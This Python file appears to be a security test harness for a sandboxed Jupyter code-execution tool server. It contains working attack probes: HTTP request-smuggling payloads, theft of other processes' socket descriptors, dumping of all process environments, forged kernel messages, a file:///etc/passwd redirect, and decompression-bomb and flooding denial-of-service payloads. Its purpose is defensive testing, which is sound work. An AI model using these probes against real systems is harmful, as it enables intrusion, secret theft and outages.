"""Hostile code: what probes run in a kernel (`import guests`), and programs that take the gateway's place.

python guests.py NAME [argument]     with the link to the host as standard input, as the gateway has it
"""

import array
import base64
import ctypes
import errno
import gzip
import hashlib
import http.client
import itertools
import json
import os
import re
import socket
import struct
import sys
import threading
import zlib
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from pathlib import Path
from typing import Any

CONNECTION, LISTENER, READY = b"c", b"l", b"r"

MIB = 1 << 20

#: Seconds that a guest waits for an answer, and for that of a server which the application may still have to start.
PATIENCE = 3.0
PATIENCE_WITH_SERVERS = 15.0

PIDFD_GETFD = 438

#: What is printed by an attack that has reached its aim; apart from its code, which tracebacks show.
REACHED = "*" * 10

# In the kernel: the tool port


def registered() -> dict[str, Any]:
    """The launch parameters that the host has registered for this workspace, each with its seal."""
    return json.loads(Path("registered.json").read_text())


def request(
    method: str, path: str, body: bytes = b"", *, patience: float = PATIENCE, **headers: str
) -> tuple[int, bytes]:
    """Makes a request to the tool server's port as a tool call would; further headers replace those of one."""
    connection = http.client.HTTPConnection(
        os.environ["TOOL_SERVER_HOST"], int(os.environ["TOOL_SERVER_PORT"]), timeout=patience
    )
    given = {name.replace("_", "-"): value for name, value in headers.items()}
    given = {"Host": "localhost", "Authorization": f"token {os.environ['TOOL_SERVER_TOKEN']}"} | given
    connection.request(method, path, body, given)
    answer = connection.getresponse()
    return answer.status, answer.read()


def call(
    name: str, params: dict[str, Any], seal: str | None, tool: str = "echo", args: dict[str, Any] | None = None
) -> str:
    """Calls a tool and returns what came of it."""
    message = {"server_name": name, "server_params": params, "seal": seal, "tool_name": tool}
    _, body = request(
        *("POST", "/run", json.dumps({**message, "tool_args": args or {"text": "hello"}}).encode()),
        patience=PATIENCE_WITH_SERVERS,
    )
    return body.decode()


def call_registered(name: str, tool: str = "echo", args: dict[str, Any] | None = None) -> str:
    """Calls a tool of a registered server, honestly."""
    entry = registered()[name]
    return call(name, entry["params"], entry["seal"], tool, args)


def tell(reached: object) -> None:
    """Prints whether an attack has reached its aim."""
    print(REACHED if reached else "not reached")


def connect() -> socket.socket:
    """Returns a connection to the tool server's port."""
    address = (os.environ["TOOL_SERVER_HOST"], int(os.environ["TOOL_SERVER_PORT"]))
    return socket.create_connection(address, timeout=PATIENCE)


def raw(*pieces: bytes) -> str:
    """Sends bytes to the tool server's port, and returns the beginning of its answer, or how it ended."""
    with connect() as connection:
        try:
            for piece in pieces:
                connection.sendall(piece)
            return connection.recv(1 << 16).decode(errors="replace")
        except OSError as exc:
            with suppress(OSError):
                return connection.recv(1 << 16).decode(errors="replace")
            return repr(exc)


def head(method: str = "POST", path: str = "/run", **headers: str) -> bytes:
    """Returns the head of a request with the guest's token."""
    given = {"Host": "localhost", "Authorization": f"token {os.environ['TOOL_SERVER_TOKEN']}"}
    given |= {name.replace("_", "-"): value for name, value in headers.items()}
    lines = [f"{method} {path} HTTP/1.1", *(f"{name}: {value}" for name, value in given.items()), "", ""]
    return "\r\n".join(lines).encode("latin-1")


def post(body: bytes, **headers: str) -> str:
    """Posts any body to the tool server, and returns the beginning of the answer."""
    return raw(head(Content_Length=str(len(body)), Content_Type="application/json", **headers), body)


def smuggled(method: str, path: str, authorization: str) -> Iterator[bytes]:
    """Ways to hide a second request in a first one, or to spell its target so that a check misses it."""
    rest = f"Host: localhost\r\nAuthorization: {authorization}\r\n"
    hidden = f"{method} {path} HTTP/1.1\r\n{rest}Content-Length: 0\r\n\r\n"
    first = f"POST /run HTTP/1.1\r\n{rest}"
    yield f"{first}Content-Length: 2\r\n\r\n{{}}{hidden}".encode()
    yield f"{first}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}".encode()
    yield f"{first}Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n{hidden}".encode()
    yield f"{first}Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n{hidden}".encode()
    yield f"{first}Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n\r\n{hidden}".encode()
    yield f"{first}Content-Length: +2\r\n\r\n{{}}{hidden}".encode()
    yield f"{first}X-Header: a\r\n\r\n{hidden}".encode()
    yield f"{first}X-Header: a\n\n{hidden}".encode()
    yield f"{first}Transfer-Encoding: chunked\r\n\r\n2;a=\n\r\n{{}}\r\n0\r\n\r\n{hidden}".encode()
    yield f"{method} http://localhost{path} HTTP/1.1\r\n{rest}Content-Length: 0\r\n\r\n".encode()
    yield f"{method} /run/..{path} HTTP/1.1\r\n{rest}Content-Length: 0\r\n\r\n".encode()
    yield f"{method} /%2e{path} HTTP/1.1\r\n{rest}Content-Length: 0\r\n\r\n".encode()
    yield f"{method} /{path} HTTP/1.1\r\n{rest}Content-Length: 0\r\n\r\n".encode()
    yield f"POST /run HTTP/1.1\r\n{rest}X-HTTP-Method-Override: {method}\r\nX-Original-URL: {path}\r\n\r\n".encode()


def application_token(port: int) -> str | None:
    """Returns the token of the application's port, as far as it can be found."""
    from ipybox.support.tokens import find_token

    return find_token("tool-server", port)


def application_sends(port: int, data: bytes) -> str:
    """Sends bytes to the application's own port, and returns the beginning of the answer."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE) as connection:
            connection.sendall(data)
            return connection.recv(1 << 16).decode(errors="replace")
    except OSError as exc:
        return repr(exc)


def upgrade(path: str, authorization: str) -> bytes:
    """Returns the head of a request for a WebSocket."""
    key = base64.b64encode(os.urandom(16)).decode()
    lines = [f"GET {path} HTTP/1.1", "Host: localhost", f"Authorization: {authorization}", "Upgrade: websocket"]
    lines += ["Connection: Upgrade", f"Sec-WebSocket-Key: {key}", "Sec-WebSocket-Version: 13", "", ""]
    return "\r\n".join(lines).encode()


# In the kernel: other processes


def parent() -> int:
    """Returns the id that /proc has for this process's parent, which can be of another namespace than `getppid`'s."""
    (line,) = (line for line in Path("/proc/self/status").read_text().splitlines() if line.startswith("PPid:"))
    return int(line.split()[1])


def others() -> Iterator[tuple[Path, int]]:
    """Yields the directory in /proc and the id in this namespace of each other process.

    Outside of a sandbox that is the gateway only: the control has no business with other people's processes.
    """
    own = os.readlink("/proc/self")
    for entry in Path("/proc").iterdir() if "SANDBOX_RUNTIME" in os.environ else [Path(f"/proc/{parent()}")]:
        if entry.name.isdigit() and entry.name != own:
            with suppress(OSError):
                status = (entry / "status").read_text()
                yield entry, int(re.findall(r"NSpid:.*?(\d+)\n", status)[0])


def steal(pid: int, fd: int) -> int:
    """Returns a descriptor of another process.

    Raises:
        OSError: If it can't be had.
    """
    pidfd = os.pidfd_open(pid)
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        stolen = libc.syscall(PIDFD_GETFD, pidfd, fd, 0)
        if stolen == -1:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return stolen
    finally:
        os.close(pidfd)


def steal_links() -> list[socket.socket]:
    """Returns all unnamed unix stream sockets of other processes that can be had: one is the link to the host."""
    found: list[socket.socket] = []
    for _, pid in others():
        for fd in range(64):
            with suppress(OSError):
                candidate = socket.socket(fileno=steal(pid, fd))
                if candidate.family == socket.AF_UNIX and candidate.type == socket.SOCK_STREAM:
                    found.append(candidate)
    return found


def environments() -> str:
    """Returns the environment of each process that shows it."""
    texts = [json.dumps(dict(os.environ))]
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with suppress(OSError):
                texts.append((entry / "environ").read_bytes().replace(b"\0", b"\n").decode(errors="replace"))
    return "\n".join(texts)


# In the kernel: messages to the client


def publish(msg_type: str, content: Any, *, parent: dict[str, Any] | None = None) -> None:
    """Sends a message on IOPub in the kernel's name; bytes are sent as they are, in place of JSON."""
    from IPython.core.getipython import get_ipython

    shell: Any = get_ipython()
    kernel = shell.kernel
    session = kernel.session
    pack = session.pack
    session.pack = lambda value: value if isinstance(value, bytes) else pack(value)  # pyright: ignore
    try:
        session.send(kernel.iopub_socket, msg_type, content, parent=parent or kernel.get_parent())
    finally:
        session.pack = pack


def reply(msg_type: str, content: Any) -> None:
    """Sends a reply to the request that is being executed."""
    from IPython.core.getipython import get_ipython

    shell: Any = get_ipython()
    kernel = shell.kernel
    kernel.session.send(kernel.shell_stream, msg_type, content, parent=kernel.get_parent(), ident=kernel._parent_ident)


# In the gateway's place: the link


def send(link: socket.socket, data: bytes, *fds: int) -> None:
    """Sends descriptors, waiting until the host has taken enough of those that are on their way."""
    ancillary = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))] if fds else []
    while True:
        try:
            link.sendmsg([data], ancillary)
        except OSError as exc:
            if exc.errno != errno.ETOOMANYREFS:
                raise
            os.sched_yield()
        else:
            return


def flood(link: socket.socket, _: str) -> None:
    """Sends descriptors of every kind, 250 with each of 400 messages."""
    with ExitStack() as stack:
        unlistening = stack.enter_context(socket.socket())
        datagrams = stack.enter_context(socket.socket(type=socket.SOCK_DGRAM))
        kinds = [
            *(os.open("/dev/null", os.O_RDWR), os.open("/", os.O_RDONLY), os.open("/proc/self/mem", os.O_RDWR)),
            *(os.memfd_create("x"), os.eventfd(0), os.pidfd_open(os.getpid()), *os.pipe()),
            *(unlistening.fileno(), datagrams.fileno(), link.fileno()),
        ]
        for number in range(400):
            send(link, LISTENER if number % 2 else b"?", *(fd for fd, _ in zip(itertools.cycle(kinds), range(250))))
        for fd in kinds[:8]:
            os.close(fd)
    send(link, READY)


def lingering_socket(seconds: int) -> tuple[socket.socket, socket.socket]:
    """Returns a connected socket whose last close waits for its unsent data, and its peer, who does not read."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        peer = socket.socket()
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        peer.connect(listener.getsockname())
        connected, _ = listener.accept()
    connected.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, seconds))
    connected.setblocking(False)
    with suppress(BlockingIOError):
        while True:
            connected.send(bytes(1 << 16))
    return connected, peer


def linger(link: socket.socket, count: str) -> None:
    """Sends sockets whose last close blocks whoever closes them, and that is the host.

    The pipe `closed` is written to when this process has none of them any more.
    """
    pairs = [lingering_socket(seconds=2) for _ in range(int(count))]
    send(link, LISTENER, *(connected.fileno() for connected, _ in pairs))
    for connected, _ in pairs:
        connected.close()
    Path("closed").write_text("closed")
    send(link, READY)
    link.recv(1)  # the peers stay until the host ends this


def knock(link: socket.socket, count: str) -> None:
    """Makes as many connections as it can to the host's listener, and closes each at once."""
    listener = socket.create_server(("127.0.0.1", 0), backlog=4096)
    send(link, LISTENER, listener.fileno())
    for _ in range(int(count)):
        with socket.create_connection(listener.getsockname()):
            pass
    send(link, READY)


def babble(link: socket.socket, mebibytes: str) -> None:
    """Sends bytes that mean nothing."""
    for _ in range(int(mebibytes)):
        link.sendall(b"?" * MIB)
    send(link, READY)


def silent(link: socket.socket, _: str) -> None:
    """Says nothing."""


# In the gateway's place: HTTP and WebSocket


Answer = Callable[[socket.socket, str], None]


def serve(link: socket.socket, answer: Answer) -> None:
    """Answers requests that come over the link."""
    send(link, READY)
    while True:
        data, fds, _, _ = socket.recv_fds(link, 4096, 8)
        if not data:
            os._exit(0)
        for fd in fds:
            threading.Thread(target=_serve, args=(socket.socket(fileno=fd), answer), daemon=True).start()


def _serve(connection: socket.socket, answer: Answer) -> None:
    with connection, suppress(OSError, ValueError):
        while text := read_head(connection):
            answer(connection, text)


def read_head(connection: socket.socket) -> str:
    """Returns the head of the next request, of which the body is dropped."""
    data = b""
    while b"\r\n\r\n" not in data:
        received = connection.recv(1 << 16)
        if not received:
            return ""
        data += received
    text, _, body = data.partition(b"\r\n\r\n")
    length = re.search(rb"content-length: (\d+)", text.lower())
    missing = int(length[1]) - len(body) if length else 0
    while missing > 0:
        missing -= len(connection.recv(missing))
    return text.decode()


def say(connection: socket.socket, body: bytes, status: str = "200 OK", *headers: str) -> None:
    """Sends a whole answer."""
    lines = [f"HTTP/1.1 {status}", f"Content-Length: {len(body)}", *headers, "", ""]
    connection.sendall("\r\n".join(lines).encode() + body)


def redirect_file(connection: socket.socket, _: str) -> None:
    say(connection, b"", "302 Found", "Location: file:///etc/passwd")


def redirect_host(connection: socket.socket, _: str) -> None:
    say(connection, b"", "307 Temporary Redirect", f"Location: http://127.0.0.1:{ARGUMENT}/")


def redirect_websocket(connection: socket.socket, text: str) -> None:
    if "upgrade: websocket" in text.lower():
        redirect_host(connection, text)
    else:
        say(connection, b'{"id": "x"}')


def garbage(connection: socket.socket, _: str) -> None:
    connection.sendall(os.urandom(4096))


def endless_head(connection: socket.socket, _: str) -> None:
    connection.sendall(b"HTTP/1.1 200 OK\r\n")
    for number in range(100 * MIB // 1000):
        connection.sendall(b"X-%d: %s\r\n" % (number, b"a" * 1000))


def endless_body(connection: socket.socket, _: str) -> None:
    connection.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
    piece = bytes(MIB)
    for _i in range(int(ARGUMENT)):
        connection.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))


def compressed_body(connection: socket.socket, _: str) -> None:
    piece = gzip.compress(bytes(64 * MIB))  # members of gzip may follow each other
    say(connection, piece * (int(ARGUMENT) // 64), "200 OK", "Content-Encoding: gzip")


def deep_body(connection: socket.socket, _: str) -> None:
    say(connection, b'{"id": ' + b"[" * 10_000_000)


def strange_id(connection: socket.socket, text: str) -> None:
    say(connection, json.dumps({"id": "../../../x?\r\nX: y\r\n\r\n\0\ud800" + "/.." * 10}).encode())


def numbers_body(connection: socket.socket, _: str) -> None:
    say(connection, b'{"id": ' + b"9" * 20_000_000 + b"}")


def upgraded(connection: socket.socket, text: str, *headers: str) -> bool:
    """Answers REST requests as a gateway does, and opens the WebSocket: then it returns true."""
    key = re.search(r"sec-websocket-key: (\S+)", text, re.IGNORECASE)
    if key is None:
        say(connection, b'{"id": "x"}')
        return False
    digest = hashlib.sha1(key[1].encode() + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest()
    lines = ["HTTP/1.1 101 Switching Protocols", "Upgrade: websocket", "Connection: Upgrade", *headers]
    lines += [f"Sec-WebSocket-Accept: {base64.b64encode(digest).decode()}"]
    lines += ["Sec-WebSocket-Protocol: v1.kernel.websocket.jupyter.org", "", ""]
    connection.sendall("\r\n".join(lines).encode())
    return True


def frame(payload: bytes, first: int = 0x82, length: int | None = None) -> bytes:
    """Returns a frame of a WebSocket, by default a whole binary message."""
    return struct.pack(">BBQ", first, 127, len(payload) if length is None else length) + payload


def message(msg_type: str, content: bytes, parent: str, channel: bytes = b"iopub") -> bytes:
    """Returns a frame with a Jupyter message."""
    header = json.dumps({"msg_type": msg_type, "msg_id": "x"}).encode()
    parts = [channel, header, json.dumps({"msg_id": parent}).encode(), b"{}", content]
    offsets = list(itertools.accumulate(map(len, parts), initial=8 * 7))
    return frame(b"".join(number.to_bytes(8, "little") for number in (6, *offsets)) + b"".join(parts))


def read_frame(connection: socket.socket) -> bytes:
    """Returns the payload of the next frame that the host sends."""
    _, size = _exactly(connection, 2)
    length = size & 0x7F
    if length == 126:
        length = int.from_bytes(_exactly(connection, 2), "big")
    elif length == 127:
        length = int.from_bytes(_exactly(connection, 8), "big")
    mask = _exactly(connection, 4)
    return bytes(byte ^ mask[i % 4] for i, byte in enumerate(_exactly(connection, length)))


def _exactly(connection: socket.socket, count: int) -> bytes:
    data = b""
    while len(data) < count:
        received = connection.recv(count - len(data))
        if not received:
            raise ValueError("the host has closed the connection")
        data += received
    return data


def until_executing(connection: socket.socket, text: str, *headers: str) -> str | None:
    """Plays a gateway up to the first cell, and returns the id of its request."""
    if not upgraded(connection, text, *headers):
        return None
    while True:
        request = read_frame(connection)
        msg_id = re.search(rb'"msg_id":"(\w+)"', request)
        assert msg_id is not None
        if b'"kernel_info_request"' not in request:
            return msg_id[1].decode()
        connection.sendall(message("kernel_info_reply", b"{}", msg_id[1].decode(), b"shell"))


def compressed_frames(connection: socket.socket, text: str) -> None:
    """Says that frames are compressed, which nobody has asked for, and sends one that grows a thousandfold."""
    extension = "Sec-WebSocket-Extensions: permessage-deflate"
    if until_executing(connection, text, extension) is not None:
        packed = zlib.compress(bytes(int(ARGUMENT) * MIB), wbits=-15)
        connection.sendall(frame(packed, first=0xC2))


def huge_frame(connection: socket.socket, text: str) -> None:
    if until_executing(connection, text) is not None:
        connection.sendall(frame(b"", length=1 << 62))
        for _ in range(int(ARGUMENT)):
            connection.sendall(bytes(MIB))


def impossible_frames(connection: socket.socket, text: str) -> None:
    if until_executing(connection, text) is not None:
        connection.sendall(b"\xff" * 100_000)


def empty_frames(connection: socket.socket, text: str) -> None:
    if until_executing(connection, text) is not None:
        connection.sendall(b"\x82\x00" * 20_000_000)


def endless_output(connection: socket.socket, text: str) -> None:
    if (parent := until_executing(connection, text)) is not None:
        output = json.dumps({"name": "stdout", "text": "x" * MIB}).encode()
        for _ in range(int(ARGUMENT)):
            connection.sendall(message("stream", output, parent))


def wrong_parents(connection: socket.socket, text: str) -> None:
    """Sends all that a cell sends, but for other cells; then what is no message; then it ends the kernel."""
    if (parent := until_executing(connection, text)) is None:
        return
    for other in ("", parent[:-1], parent.upper() + "x", parent * 1000):
        for msg_type, content in (("stream", b'{"text": "FORGED"}'), ("execute_reply", b'{"status": "ok"}')):
            connection.sendall(message(msg_type, content, other))
    for words in ([2**63], [6, 0], [6, 9, 8, 7, 6, 5, 4], [1024] * 9, [6, 56, 2**63, 1, 1, 1, 1]):
        connection.sendall(frame(b"".join(word.to_bytes(8, "little") for word in words)))
    connection.sendall(frame(b"{}", first=0x81))
    connection.sendall(message("stream", b"[" * 1_000_000, parent))
    connection.sendall(message("stream", b"\xff\xfe", parent))
    connection.sendall(message("status", b'{"execution_state": "dead"}', parent))


def overlapping_parts(connection: socket.socket, text: str) -> None:
    """Sends a message with a thousand parts, each of which is all of it."""
    if until_executing(connection, text) is not None:
        size = 100 * MIB
        offsets = [0, size] * 510
        words = b"".join(number.to_bytes(8, "little") for number in (len(offsets), *offsets))
        connection.sendall(frame(words + bytes(size)))


def many_messages(connection: socket.socket, text: str) -> None:
    """Sends messages as small and as fast as possible, each of which the host logs or handles."""
    if (parent := until_executing(connection, text)) is not None:
        piece = message("stream", b'{"text": "a"}', parent) * 1000
        for _ in range(int(ARGUMENT)):
            connection.sendall(piece)


ON_LINK: dict[str, Callable[[socket.socket, str], None]] = {
    each.__name__: each for each in (flood, linger, knock, babble, silent)
}
ON_HTTP: dict[str, Answer] = {
    each.__name__: each
    for each in (
        *(redirect_file, redirect_host, redirect_websocket, garbage, endless_head, endless_body, compressed_body),
        *(deep_body, strange_id, numbers_body, compressed_frames, huge_frame, impossible_frames, endless_output),
        *(empty_frames, wrong_parents, many_messages, overlapping_parts),
    )
}
ARGUMENT = sys.argv[2] if __name__ == "__main__" and len(sys.argv) > 2 else ""

if __name__ == "__main__":
    NAME = sys.argv[1]
    LINK = socket.socket(fileno=0)
    if NAME in ON_LINK:
        ON_LINK[NAME](LINK, ARGUMENT)
        while LINK.recv(4096):
            pass
    else:
        serve(LINK, ON_HTTP[NAME])
